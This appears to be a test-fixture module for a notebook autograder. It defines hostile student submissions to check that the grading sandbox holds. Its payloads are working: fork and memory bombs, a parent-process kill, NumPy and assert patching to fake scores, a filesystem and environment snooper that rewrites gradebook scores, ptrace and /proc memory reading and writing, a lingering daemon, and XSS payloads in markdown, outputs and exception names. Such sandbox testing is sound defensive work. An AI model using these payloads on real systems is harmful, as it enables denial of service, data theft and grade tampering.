"""What the hostile submissions of the demo class do, as small pieces of Python.

Nothing here is run by the grader's own processes: the pieces are texts that `submissions` puts into
notebooks. In them ``STEP`` stands for the name of the exercise that is tampered with, and ``BOUNDED``
for True or False: True on machines without a sandbox, where a bomb must stop by itself and nothing of
the machine's owner may be touched. Whatever a piece gets hold of it prints after the word ``FOUND``, so
that a test can look for planted texts in what comes out of grading.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """A right notebook with something added.

    `first` is a cell after the setup, `last` a cell at the end. `before` and `after` are added to the
    solution cells of `steps`, which lose points. `spoils_later` says that the steps after the tampered
    one may be lost too. `forges_tests` replaces the notebook's test cells, `markdown` is a text cell.
    """

    student: str
    what: str
    expect: str
    steps: tuple[str, ...] = ()
    first: str = ""
    before: str = ""
    after: str = ""
    last: str = ""
    markdown: str = ""
    spoils_later: bool = False
    forges_tests: bool = False

    def code(self, text: str, step: str, bounded: bool) -> str:
        """A piece with its two placeholders filled in."""
        return text.replace("STEP", step).replace("BOUNDED", str(bounded)).strip()


# Shows what was found in every way a cell has: both streams, and a file.
LOOT = """
import sys

def loot(what, value):
    text = f"FOUND {what}: {str(value)[:3000]}"
    print(text)
    print(text, file=sys.stderr)
    try:
        with open("left-by-loot.txt", "a") as file:
            file.write(text)
    except OSError:
        pass
"""

# Looks for what an earlier submission left: files, processes, shared memory, an open socket.
LEFTOVERS = """
import ctypes, glob, os, socket

def look_for_leftovers():
    for folder in (".", "..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", os.path.expanduser("~")):
        for path in glob.glob(os.path.join(folder, "left-by-*")):
            loot("a file of an earlier submission", path)
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            if open(path).read().startswith("left-by-"):
                loot("a process of an earlier submission", path)
        except OSError:
            pass
    libc = ctypes.CDLL(None)
    if libc.shmget(0x1EF7, 4096, 0) >= 0:
        loot("shared memory of an earlier submission", hex(0x1EF7))
    if libc.msgget(0x1EF7, 0) >= 0:
        loot("a message queue of an earlier submission", hex(0x1EF7))
    try:
        with socket.socket(socket.AF_UNIX) as link:
            link.connect("\\0left-by-daemon")
        loot("a socket of an earlier submission", "left-by-daemon")
    except OSError:
        pass

look_for_leftovers()
"""

# An endless loop where the cell is run: grading must go on to the next step.
LOOP_AT_TOP_LEVEL = """
while True:
    pass
"""

# An endless loop where the function is called, which also swallows every attempt to interrupt it.
LOOP_IN_FUNCTION = """
def STEP(*args, **kwargs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
"""

# Leaves the process as if all had gone well, with a score on the standard output.
EXIT_IN_FUNCTION = """
import os

def STEP(*args, **kwargs):
    print(1000.0, flush=True)
    os._exit(0)
"""

# The same at the end of the notebook, after an attempt to take the process that started it along.
EXIT_AT_TOP_LEVEL = """
import os, signal

print(1000.0, flush=True)
if not BOUNDED and os.getppid() > 0:
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except OSError:
        pass
os._exit(0)
"""

# Takes memory until somebody stops it: in files in memory, and in several processes at once.
MEMORY_BOMB = """
import os

def STEP(*args, **kwargs):
    block = b"\\x01" * 2**26
    hoard = []
    for folder in () if BOUNDED else ("/dev/shm", "/tmp", "."):
        try:
            with open(os.path.join(folder, "hoard"), "wb") as file:
                for _ in range(64):
                    file.write(block)
        except OSError:
            pass
    for _ in range(0 if BOUNDED else 2):
        try:
            os.fork()
        except OSError:
            pass
    while not BOUNDED or len(hoard) < 4:
        hoard.append(bytearray(block))
    raise MemoryError("the bounded memory bomb stops here")
"""

# Forks until forking is refused, and then goes on trying, in every child.
FORK_BOMB = """
import os, time

def STEP(*args, **kwargs):
    for _ in range(20) if BOUNDED else iter(int, 1):
        try:
            child = os.fork()
        except OSError:
            continue
        if BOUNDED and child == 0:
            time.sleep(2)
            os._exit(0)
    raise RuntimeError("the bounded fork bomb stops here")
"""

# Makes every comparison of NumPy agree, takes asserts out of later cells, and fakes the grader.
PATCHES = """
import ast, sys, types
import numpy as np

def agree(*args, **kwargs):
    return True

for name in ("allclose", "array_equal", "array_equiv", "isclose"):
    setattr(np, name, agree)
for name in [name for name in dir(np.testing) if name.startswith("assert")]:
    setattr(np.testing, name, agree)

class WithoutAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)

try:
    get_ipython().ast_transformers.append(WithoutAsserts())
except (NameError, AttributeError):
    pass
fake = types.ModuleType("dnn_grader")
fake.grade = lambda name: 1000.0
sys.modules["dnn_grader"] = fake
check = agree
try:
    Checks.__call__ = agree
except (NameError, TypeError, AttributeError):
    pass
"""
WRONG = """
def STEP(*args, **kwargs):
    return 0.0
"""

# Values that are wrong, but say that they equal whatever they are compared with.
LIARS = '''
import itertools
import numpy as np

def yes(*args, **kwargs):
    return True

def zero(*args, **kwargs):
    return 0.0

LIES = dict(
    {f"__{name}__": yes for name in ("eq", "ne", "lt", "le", "gt", "ge", "bool", "contains")},
    **{f"__{name}__": zero for name in ("sub", "rsub", "abs", "truediv")},
    __hash__=object.__hash__,
)
LyingArray = type("ndarray", (np.ndarray,), dict(LIES, __array_function__=yes, __array_ufunc__=zero))
LyingFloat = type("float", (float,), dict(LIES))
LyingTuple = type("tuple", (tuple,), dict(LIES))

class Chameleon:
    """Becomes another array each time it is asked, and has any attribute."""
    __array_priority__ = 1e9
    locals().update(LIES)

    def __array__(self, *args, **kwargs):
        return np.random.rand(3, 3)

    def __getattr__(self, name):
        return (3, 3) if name == "shape" else np.float64 if name == "dtype" else yes

array_lies = itertools.cycle([lambda value: (value * 0 + 7.0).view(LyingArray), lambda value: Chameleon()])

def lie(value):
    if isinstance(value, np.ndarray):
        return next(array_lies)(value)
    return LyingTuple(map(lie, value)) if isinstance(value, tuple) else LyingFloat(7.0)

def lying(function):
    return lambda *args, **kwargs: lie(function(*args, **kwargs))
'''
LIES_ABOUT_STEP = "STEP = lying(STEP)"

# Reads every notebook, gradebook and seed it can reach, and tries to write itself better grades.
SNOOP = """
import importlib, os, sqlite3, time

def interesting(path):
    name = os.path.basename(path)
    return name.endswith((".ipynb", ".db")) or name in ("course_seed", "nbgrader_config.py")

def search(folders, seconds=2.0):
    end, seen = time.monotonic() + seconds, set()
    for start in folders:
        for folder, inner, files in os.walk(start):
            inner[:] = [name for name in inner if name not in ("proc", "sys", "site-packages", "lib")]
            for path in (os.path.join(folder, name) for name in files):
                if time.monotonic() > end or len(seen) > 40:
                    return
                if interesting(path) and path not in seen:
                    seen.add(path)
                    read(path)

def read(path):
    try:
        with open(path, "rb") as file:
            text = file.read(200_000).decode("utf-8", "replace")
    except OSError:
        return
    marks = [text[max(0, at - 80) : at + 200] for at in (text.find("CANARY"), text.find("HIDDEN")) if at >= 0]
    loot(f"the file {path}", marks or text[:500])
    if path.endswith(".db") and not BOUNDED:
        try:
            with sqlite3.connect(path, timeout=0.1) as book:
                book.execute("update grade set manual_score = 1000")
            loot("a gradebook it could write", path)
        except sqlite3.Error:
            pass

here = os.getcwd()
above = ["/".join(here.split("/")[:n]) or "/" for n in range(here.count("/") + 1, 0, -1)]
search([*above[:3], os.path.expanduser("~"), "/work", "/home", "/root", "/srv", "/tmp", "/var", "/"])
print("environment", dict(os.environ))
for name in ("dnn_grader", "dnn_grader.exercises.week4_building_blocks", "nbgrader"):
    try:
        loot("a module", importlib.import_module(name))
    except BaseException:
        pass
"""

# Looks up from the graded call for expected answers, and keeps the hidden inputs for a later cell.
SNOOP_IN_FUNCTION = """
import builtins, sys

kept = builtins.kept_inputs = []

def peeking(function):
    def peek(*args, **kwargs):
        frame = sys._getframe(1)
        while frame is not None:
            for name in ("expected", "reference", "answer", "solution", "seed", "cases"):
                if name in frame.f_locals or name in frame.f_globals:
                    loot(f"{name} in a calling frame", frame.f_locals.get(name, frame.f_globals.get(name)))
            frame = frame.f_back
        kept.append(repr(args)[:500])
        for path in ("inputs.txt", "/tmp/inputs.txt", "/dev/shm/inputs.txt"):
            try:
                with open(path, "a") as file:
                    file.write(repr(args)[:500])
            except OSError:
                pass
        return function(*args, **kwargs)
    return peek

STEP = peeking(STEP)
"""
SNOOP_FOR_INPUTS = """
if kept:
    loot("hidden inputs in memory", kept)
for path in ("inputs.txt", "/tmp/inputs.txt", "/dev/shm/inputs.txt"):
    try:
        loot("hidden inputs in a file", open(path).read())
    except OSError:
        pass
"""

# Attaches to other processes and searches and writes their memory.
MEMORY_READER = """
import ctypes, glob, os, re

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH = 16, 17

def attach(process):
    if libc.ptrace(ATTACH, process, None, None) == 0:
        os.waitpid(process, 0x40000000)
        libc.ptrace(DETACH, process, None, None)
        loot("a process it could trace", process)

def regions(process):
    with open(f"/proc/{process}/maps") as file:
        for line in file:
            start, end, rights = re.match("([0-9a-f]+)-([0-9a-f]+) (\\\\S+)", line).groups()
            if rights.startswith("rw"):
                yield int(start, 16), min(int(end, 16) - int(start, 16), 2**24)

def search(process):
    found = list(regions(process))[:100]
    with open(f"/proc/{process}/mem", "rb" if BOUNDED else "rb+", buffering=0) as memory:
        for start, size in found:
            memory.seek(start)
            data = memory.read(size)
            loot("the memory of another process", process)
            for match in re.finditer(rb"CANARY.{0,80}", data):
                loot("text in another process", match.group())
            if not BOUNDED:
                # The same byte again: harm enough to prove the point.
                memory.seek(start)
                memory.write(data[:1])
                loot("memory it could write", process)

others = [int(path.split("/")[2]) for path in glob.glob("/proc/[0-9]*")]
others = {1, os.getppid()} if BOUNDED else {1, os.getppid(), *others}
for process in sorted(others - {0, os.getpid()})[:50]:
    for attempt in (search,) if BOUNDED else (search, attach):
        try:
            attempt(process)
        except (OSError, ValueError, OverflowError, AttributeError):
            pass
try:
    libc.prctl(4, 1, 0, 0, 0)
    print(os.listdir("/proc/1/fd"), os.readlink("/proc/1/cwd"))
except OSError:
    pass
"""

# Leaves files, shared memory, a message queue and a daemon behind, which goes on writing for a minute.
DAEMON = """
import ctypes, os, socket, time

SECONDS = 3 if BOUNDED else 60
FOLDERS = ["/tmp", "/dev/shm"]
if not BOUNDED:
    FOLDERS += [".", "..", "../..", "/var/tmp", "/dev/mqueue", "/run", os.path.expanduser("~")]

def leave_files():
    for folder in FOLDERS:
        try:
            with open(os.path.join(folder, "left-by-daemon"), "w") as file:
                file.write("left-by-daemon")
        except OSError:
            pass

def leave_memory():
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    if not BOUNDED:
        place = libc.shmat(libc.shmget(0x1EF7, 4096, 0o1666), None, 0)
        if place not in (None, 2**64 - 1):
            ctypes.memmove(place, b"left-by-daemon", 14)
        libc.msgget(0x1EF7, 0o1666)
    libc.prctl(15, b"left-by-daemon", 0, 0, 0)

def reach_out():
    for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 5432)):
        try:
            socket.create_connection(address, timeout=0.3).close()
            loot("a network it could reach", address)
        except OSError:
            pass

def listen():
    try:
        door = socket.socket(socket.AF_UNIX)
        door.bind("\\0left-by-daemon")
        door.listen()
        return door
    except OSError:
        return None

def live():
    end, door = time.monotonic() + SECONDS, listen()
    leave_memory()
    while time.monotonic() < end:
        leave_files()
        time.sleep(0.2)
    os._exit(0)

if not BOUNDED:
    reach_out()
leave_files()
try:
    child = os.fork()
except OSError:
    child = None
if child == 0:
    # In its own session, and with a dead parent, it is nobody's child.
    os.setsid()
    if os.fork() == 0:
        live()
    os._exit(0)
if child:
    os.waitpid(child, 0)
"""

# Script in every place that a page may show: text, links, pictures, outputs, an exception.
SCRIPT = "window.PWNED = 1; document.title = 'PWNED'"
SCRIPT_MARKDOWN = f"""
# My notes <script>{SCRIPT}</script>

<img src="x" onerror="{SCRIPT}"> <svg onload="{SCRIPT}"></svg>
<iframe srcdoc="<script>parent.PWNED = 1</script>"></iframe>
<a href="javascript:{SCRIPT}" id="trap">my source</a> [another](javascript:window.PWNED=1)
<style>body {{ display: none }}</style> <form action="https://example.invalid"><input name="grade"></form>
<meta http-equiv="refresh" content="0; url=javascript:window.PWNED=1">

$\\href{{javascript:window.PWNED=1}}{{x}}$ $$\\text{{<img src=x onerror="window.PWNED=1">}}$$
```<script>window.PWNED=1</script>
</code></pre><script>window.PWNED=1</script>
```
"""
SCRIPT_OUTPUT = f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display

script = "{SCRIPT}"
display(HTML(f"<script>{{script}}</script><img src=x onerror='window.PWNED=1'>"))
display(Javascript(script))
display(Markdown(f"<script>{{script}}</script> [x](javascript:window.PWNED=1)"))
display(Latex(r"$\\href{{javascript:window.PWNED=1}}{{x}}$"))
drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.PWNED=1'>"
display(SVG(f"{{drawing}}<script>{{script}}</script></svg>"))
card = dict(
    title="<script>window.PWNED=1</script>",
    passed=True,
    lines=["<img src=x onerror='window.PWNED=1'>"],
    cause="`<b onmouseover=window.PWNED=1>`",
    details=[],
)
page = "<script>window.PWNED=1</script>"
display({{"application/vnd.dnn-course.card+json": card, "text/html": page}}, raw=True)
print("</pre><script>window.PWNED=1</script> \\x1b[31mred\\x1b]0;PWNED\\x07 \\u202egnirts")
"""
SCRIPT_IN_EXCEPTION = """
def STEP(*args, **kwargs):
    error = type("<img src=x onerror='window.PWNED=1'>", (Exception,), {})
    raise error("</pre><script>window.PWNED=1</script>")
"""

_BUT_STEP = "Full marks but for {steps}."
_FULL = "Full marks: the work is right."

ATTACKS = (
    Attack(
        "loop-forever",
        "an endless loop at top level",
        "Loses {steps} to the time limit; the steps after it are lost only where the process had to go.",
        steps=("L_model_forward",),
        before=LOOP_AT_TOP_LEVEL,
        spoils_later=True,
    ),
    Attack(
        "loop-inside",
        "an endless loop inside a function",
        f"{_BUT_STEP} Its calls end at the time limit.",
        steps=("linear_activation_forward",),
        after=LOOP_IN_FUNCTION,
    ),
    Attack(
        "exit-early",
        "os._exit in a function, and at the end with a kill of its parent",
        f"{_BUT_STEP} Its process ends without an answer.",
        steps=("compute_cost",),
        after=EXIT_IN_FUNCTION,
        last=EXIT_AT_TOP_LEVEL,
    ),
    Attack(
        "memory-bomb",
        "a memory bomb, in several processes and in files",
        f"{_BUT_STEP} It meets the memory limit.",
        steps=("L_model_forward",),
        after=MEMORY_BOMB,
    ),
    Attack(
        "fork-bomb",
        "a fork bomb",
        f"{_BUT_STEP} It meets the limit of processes and then that of time.",
        steps=("linear_forward",),
        after=FORK_BOMB,
    ),
    Attack(
        "numpy-patcher",
        "patches NumPy, strips asserts, fakes the grader and its own tests",
        f"{_BUT_STEP} No test runs in the process that was patched.",
        steps=("linear_forward",),
        first=PATCHES,
        after=WRONG,
        forges_tests=True,
    ),
    Attack(
        "lying-objects",
        "returns objects with overloaded operators",
        f"{_BUT_STEP} Values are copied as plain data, and their operators are not asked.",
        steps=("linear_forward", "compute_cost", "linear_backward"),
        first=LIARS,
        after=LIES_ABOUT_STEP,
    ),
    Attack(
        "snoop",
        "looks for the gradebook, source/, expected answers and hidden inputs",
        f"{_FULL} Nothing is found.",
        first=LOOT + LEFTOVERS + SNOOP,
        after=SNOOP_IN_FUNCTION,
        last=SNOOP_FOR_INPUTS,
    ),
    Attack(
        "memory-reader",
        "tries /proc/1/mem and ptrace",
        f"{_FULL} No other process can be read, written or traced.",
        first=LOOT + LEFTOVERS + MEMORY_READER,
    ),
    Attack(
        "daemon-leaver",
        "leaves a daemon, shared memory and files behind for the next",
        f"{_FULL} Nothing of it is there for the next submission.",
        first=LOOT + LEFTOVERS + DAEMON,
    ),
    Attack(
        "page-script",
        "script in its markdown, its outputs and an exception",
        f"{_BUT_STEP} It raises; no page runs any of the script.",
        steps=("linear_backward",),
        first=LOOT + LEFTOVERS + SCRIPT_OUTPUT,
        after=SCRIPT_IN_EXCEPTION,
        markdown=SCRIPT_MARKDOWN,
    ),
)
